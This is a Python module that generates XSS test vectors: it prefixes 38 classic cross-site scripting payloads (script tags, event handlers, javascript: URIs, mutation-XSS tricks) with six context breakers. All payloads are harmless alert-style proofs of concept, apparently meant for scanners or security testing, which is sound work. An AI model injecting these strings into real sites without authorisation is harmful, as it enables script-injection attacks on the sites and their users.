"""At least 100 XSS vectors: classic payloads, each also behind the usual context breakers."""

_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<details open ontoggle=confirm(1)>",
    "<input autofocus onfocus=prompt(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    '<div style="width:expression(alert(1))">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<audio src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
]
_BREAKERS = ["", '">', "'>", "</title>", "</textarea>", "--><"]


def xss_vectors():
    vectors = []
    for breaker in _BREAKERS:
        for payload in _PAYLOADS:
            vector = breaker + payload
            if vector not in vectors:
                vectors.append(vector)
    return vectors


assert len(xss_vectors()) >= 100
